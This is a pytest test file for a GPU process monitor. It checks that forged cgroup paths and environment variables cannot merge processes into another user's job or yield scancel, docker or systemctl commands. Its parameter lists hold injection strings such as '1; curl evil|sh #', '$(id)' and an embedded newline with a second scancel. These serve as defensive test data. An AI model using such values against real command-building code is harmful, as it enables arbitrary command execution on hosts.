"""What a process says of itself: it is shown, but it joins no two users, and makes no command."""

from typing import Any

import pytest
from examples import process

from gputop.core.model.owner import Container, Owner, Pod, SlurmStep
from gputop.core.model.sample import HostProcess, Job
from gputop.core.model.units import NOTHING
from gputop.core.processes.attribution import Evidence, attribute
from gputop.core.processes.cgroup import parse_cgroup
from gputop.core.processes.column import Row
from gputop.core.processes.columns import COLUMNS
from gputop.core.processes.ending import end_command, kill_command
from gputop.core.processes.jobs import JobFinder, jobs_named
from gputop.core.processes.owner_command import owner_command, service_command

ID, POD = "a" * 64, "2c4b2241-5c01-11e9-8e4e-42010a800002"
STEP = "/system.slice/slurmstepd.scope/job_84213/step_0/user/task_0"
DELEGATED = [
    "/user.slice/user-1002.slice/user@1002.service/app.slice/x",
    "/user.slice/user-1002.slice/user@1002.service",
    "/user.slice/user-1002.slice/session-3.scope",
    "/system.slice/daemon-of-bob.service",
    f"/system.slice/docker-{'b' * 64}.scope",
    "/machine.slice/machine-bob.scope",
    "/lxc.payload.bob",
    "/user/bob/0",
    "/../..",
]
SLURM = "/slurmstepd.scope/job_84213/step_0"
NAMES = {
    "slurm": SLURM,
    "slurm with a SLUID": "/slurmstepd.scope/s5K1KKYAYG5D00/step_0",
    "slurm of v1": "/slurm/uid_1001/job_84213/step_0",
    "docker": f"/docker-{ID}.scope",
    "docker of cgroupfs": f"/docker/{ID}",
    "pod": f"/kubepods-pod{POD.replace('-', '_')}.slice/cri-containerd-{ID}.scope",
    "pod of cgroupfs": f"/kubepods/pod{POD}/{ID}",
    "service": "/system.slice/sshd.service",
}


def owner(path: str = "/", **variables: str) -> Owner:
    return attribute(Evidence(cgroup=parse_cgroup(f"0::{path}\n"), variables=variables))


def rank(pid: int, gpu: int, user: str, held: Owner, **fields: Any) -> HostProcess:
    return process(pid, gpu, parent_pid=1, user=user, owner=held, **fields)


def find_jobs(*processes: HostProcess, relatives: tuple[HostProcess, ...] = ()) -> tuple[Job, ...]:
    return JobFinder().find(processes, relatives)


def pids(jobs: tuple[Job, ...]) -> list[list[int]]:
    return [[one.pid for one in job.members] for job in jobs]


def joins_the_job_of_alice(honest: Owner, rogue: Owner) -> bool:
    """Return whether bob's process 20 becomes a member of the job of alice's processes 10 and 11."""
    held = find_jobs(rank(10, 0, "alice", honest), rank(11, 1, "alice", honest), rank(20, 2, "bob", rogue))
    return any({10, 20} <= set(members) for members in pids(held))


# --- a job never spans users by what they say -----------------------------------------------------------------------
@pytest.mark.parametrize(
    "variables",
    [
        {"SLURM_JOB_ID": "84213", "SLURM_STEP_ID": "0"},
        {"SLURM_JOB_ID": "84213.0"},
        {"SLURM_JOB_ID": "alice:slurm:84213.0"},
        {"SLURM_JOB_ID": "84213_7", "SLURM_STEP_ID": "0"},
        {"TORCHELASTIC_RUN_ID": "456"},
        {"TORCHELASTIC_RUN_ID": "alice@10.0.0.1:29500"},
        {"TORCHELASTIC_RUN_ID": "alice:run:456"},
        {"MASTER_ADDR": "10.0.0.1", "MASTER_PORT": "29500"},
    ],
)
def test_a_variable_of_the_environment_does_not_put_a_process_into_the_job_of_another_user(
    variables: dict[str, str],
) -> None:
    of_slurm = owner(STEP, TORCHELASTIC_RUN_ID="456", MASTER_ADDR="10.0.0.1", MASTER_PORT="29500")
    of_torch = owner(TORCHELASTIC_RUN_ID="456", MASTER_ADDR="10.0.0.1", MASTER_PORT="29500")
    of_master = owner(MASTER_ADDR="10.0.0.1", MASTER_PORT="29500")
    same = owner(**variables)

    assert not any(joins_the_job_of_alice(honest, owner(**variables)) for honest in (of_slurm, of_torch, of_master))
    assert not joins_the_job_of_alice(same, same)


def test_equal_run_ids_of_two_users_are_not_one_job() -> None:
    held = owner(TORCHELASTIC_RUN_ID="456")
    ranks = [rank(10 + n, n, "alice" if n < 2 else "bob", held) for n in range(4)]
    jobs = find_jobs(*ranks)

    assert pids(jobs) == [[10, 11], [12, 13]]
    assert len({job.key for job in jobs}) == 2


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("above", DELEGATED)
def test_a_cgroup_that_a_user_can_create_joins_no_job_and_makes_no_command(above: str, name: str) -> None:
    rogue = owner(above + NAMES[name])
    honest = owner(STEP), owner(f"/system.slice/docker-{ID}.scope"), owner(f"/kubepods/pod{POD}/{ID}")

    assert not any(joins_the_job_of_alice(one, rogue) for one in honest)
    command = owner_command(rogue) or service_command(rogue)
    assert command is None or not any(word in command.text for word in (ID, POD, "84213", "sshd"))


def test_a_forged_path_of_one_hierarchy_does_not_replace_the_true_one_of_another() -> None:
    forged = f"0::/user.slice/user-1002.slice/user@1002.service{SLURM}\n"
    found = parse_cgroup(forged + "5:devices:/slurm/uid_1002/job_9/step_0\n")

    assert (found.job, found.trusted) == ("9", ("slurm",))


def test_a_forged_step_inside_of_a_container_is_not_the_step_of_slurm() -> None:
    found = parse_cgroup(f"0::/system.slice/docker-{ID}.scope/system.slice{SLURM}\n")

    assert "slurm" not in found.trusted


@pytest.mark.parametrize(
    ("path", "trusted"),
    [
        (STEP, ("slurm",)),
        ("/system.slice/node7_slurmstepd.scope/job_42/step_batch", ("slurm",)),
        ("/slurm_n01/uid_1000/job_9/step_extern/task_0", ("slurm",)),
        (f"/system.slice/docker-{ID}.scope", ("container",)),
        (f"/docker/{ID}", ("container",)),
        (f"/{ID}", ("container",)),
        (f"/machine.slice/libpod-{ID}.scope/container", ("container",)),
        (f"/kubepods.slice/kubepods-pod{POD}.slice/crio-{ID}.scope/container", ("pod", "container")),
        (f"/kubepods/burstable/pod{POD}/{ID}", ("pod", "container")),
        (f"/system.slice/containerd.service/kubepods-pod{POD}.slice:cri-containerd:{ID}", ("pod", "container")),
        ("/system.slice/ollama.service", ("unit",)),
        ("/user.slice/user-1000.slice/user@1000.service/app.slice/sshd.service", ()),
    ],
)
def test_what_only_root_can_write_is_trusted(path: str, trusted: tuple[str, ...]) -> None:
    assert owner(path).trusted == trusted


def test_a_trusted_cgroup_joins_the_processes_of_two_users() -> None:
    held = owner(STEP)

    assert joins_the_job_of_alice(held, held)
    assert find_jobs(rank(10, 0, "alice", held), rank(20, 1, "bob", held))[0].key == "slurm:84213.0"


def test_a_rootless_container_is_shown_by_name_and_joins_only_its_user() -> None:
    held = owner(f"/user.slice/user-1002.slice/user@1002.service/user.slice/libpod-{ID}.scope/container")

    assert held.container == Container(runtime="podman", id=ID)
    assert pids(find_jobs(*(rank(10 + n, n, "bob", held) for n in range(2)))) == [[10, 11]]
    assert not joins_the_job_of_alice(held, held)


@pytest.mark.parametrize("name", [name for name in NAMES if name != "service"])
def test_a_name_that_only_the_process_claims_looks_proven_in_a_column_or_job(name: str) -> None:
    held = owner("/user.slice/user-1002.slice/user@1002.service/app.slice" + NAMES[name])
    found = rank(10, 0, "bob", held)
    (job,) = find_jobs(found, rank(11, 1, "bob", held))
    row = Row(found, found.gpus[0], 0.0)
    shown = {column.key: column.text(row) for column in COLUMNS}
    names = {shown["job"], shown["container"], shown["pod"]} - {NOTHING}

    assert names
    assert all(text.endswith("?") for text in names)
    assert job.label.endswith("?")


def test_a_job_that_is_only_claimed_takes_the_place_of_the_proven_one_of_the_same_number() -> None:
    true, false = owner(STEP), owner("/user.slice/user-1002.slice/user@1002.service" + SLURM)
    jobs = find_jobs(
        *(rank(10 + n, n, "bob", false) for n in range(2)), *(rank(20 + n, 2 + n, "alice", true) for n in range(2))
    )

    assert [job.label for job in jobs] == ["84213.0?", "84213.0"]
    assert [jobs_named(name, jobs) for name in ("84213", "84213.0")] == [[jobs[1]]] * 2
    assert [jobs_named(name, jobs[:1]) for name in ("84213", "84213.0", jobs[0].key)] == [[jobs[0]]] * 3


def test_a_number_in_the_environment_does_not_move_a_process_out_of_its_step_with_a_sluid() -> None:
    path = "/system.slice/slurmstepd.scope/s5K1KKYAYG5D00/step_0"
    jobs = find_jobs(rank(10, 0, "bob", owner(path, SLURM_JOB_ID="1")), rank(11, 1, "bob", owner(path)))

    assert [job.key for job in jobs] == ["slurm:s5K1KKYAYG5D00.0"]


# --- launchers and relatives ----------------------------------------------------------------------------------------
def test_a_helper_of_another_user_below_a_job_is_no_member_of_it() -> None:
    held = Owner()
    sudo = process(30, gpus=(), parent_pid=10, user="root", command="sudo -u bob python", owner=held)
    helper = process(31, gpus=(), parent_pid=30, user="bob", command="python helper.py", owner=held)
    jobs = find_jobs(process(10, 0, 1, parent_pid=1, user="alice"), relatives=(sudo, helper))

    assert pids(jobs) == [[10]]


def test_a_process_below_the_launcher_of_another_user_is_no_worker_of_it() -> None:
    torchrun = process(5, gpus=(), parent_pid=1, user="alice", command="/v/bin/python /v/bin/torchrun train.py")
    workers = [process(10 + n, n, parent_pid=5, user=user) for n, user in enumerate(("alice", "alice", "bob"))]

    assert pids(find_jobs(*workers, relatives=(torchrun,))) == [[5, 10, 11]]


def test_a_process_that_changes_its_user_leaves_the_job_of_the_user_before() -> None:
    finder, held = JobFinder(), Owner(run_id="456")
    before = finder.find([rank(10, 0, "alice", held), rank(11, 1, "alice", held)], [])
    after = finder.find([rank(10, 0, "alice", held), rank(11, 1, "bob", held)], [])

    assert (pids(before), pids(after)) == ([[10, 11]], [])


# --- commands -------------------------------------------------------------------------------------------------------
def proven(**fields: Any) -> Owner:
    return Owner(**fields, trusted=("slurm", "pod", "container", "unit"))


@pytest.mark.parametrize(
    "job",
    ["1; curl evil|sh #", "--user=1001", "84213", "84213\nscancel 1", "$(id)", "84213_7", "*", "", "٣", "-1", "1.2.3"],
)
def test_a_job_number_of_the_environment_makes_no_command(job: str) -> None:
    assert owner_command(owner(SLURM_JOB_ID=job)) is None
    assert owner_command(owner("/system.slice/slurmstepd.scope/s5K1KKYAYG5D00/step_0", SLURM_JOB_ID=job)) is None


@pytest.mark.parametrize("text", ["--all", "a b", "$(id)", "x;y", "a\nb", "../x", "-n", "é", "", "x" * 300, "a'b"])
def test_a_name_that_does_not_fit_its_grammar_makes_no_command(text: str) -> None:
    ways = [
        owner_command(proven(slurm=SlurmStep(job=text, step="0"))),
        owner_command(proven(slurm=SlurmStep(job=text))),
        owner_command(proven(pod=Pod(uid="u", name=text, namespace="ml"))),
        owner_command(proven(pod=Pod(uid="u", name="train-0", namespace=text))),
        service_command(proven(unit=text)),
        service_command(proven(unit=f"{text} .service")),
    ]

    assert not any(ways)
    if text:  # without a name, a container goes by its id
        assert owner_command(proven(container=Container(runtime="docker", id="0", name=text))) is None


def test_the_host_name_of_a_process_is_not_taken_as_its_pod() -> None:
    path = f"/kubepods/pod{POD}/{ID}"
    held = owner(path, KUBERNETES_SERVICE_HOST="10.0.0.1", HOSTNAME="victim")

    assert held.pod == Pod(uid=POD, name="victim")
    assert owner_command(held) is None


@pytest.mark.parametrize(
    ("held", "text", "ends"),
    [
        (owner(STEP), "scancel 84213.0", "the whole Slurm step"),
        (owner("/slurm/uid_1/job_9/step_batch"), "scancel 9", "the whole Slurm job"),
        (
            proven(container=Container(runtime="docker", id=ID, name="web")),
            "docker stop -- web", "the whole container",
        ),
    ],
)  # fmt: skip
def test_a_command_says_what_else_it_ends(held: Owner, text: str, ends: str) -> None:
    command = owner_command(held)

    assert command
    assert (command.text, command.ends) == (text, ends)


# --- advice ---------------------------------------------------------------------------------------------------------
def test_to_end_the_first_process_of_a_container_is_never_advised_without_saying_so() -> None:
    assert end_command(process(7)) == "gputop signal SIGTERM --pid 7"
    assert end_command(process(7, inner_pid=12)) == "gputop signal SIGTERM --pid 7"
    assert "ends the whole container" in end_command(process(7, inner_pid=1))
    assert "ends the whole container of 8" in end_command(process(7), process(8, inner_pid=1))
    assert "--pid 1" not in end_command(process(1))


def test_to_kill_the_process_of_another_user_is_never_advised() -> None:
    found = kill_command([process(7), process(8, user="bob"), process(1)], "ann")

    assert found == "kill -9 7, ask bob about 8"
    assert kill_command([process(7)], None) == "ask ann about 7"
    assert "ends the whole container" in kill_command([process(7, inner_pid=1)], "ann")
    assert not kill_command([], "ann")
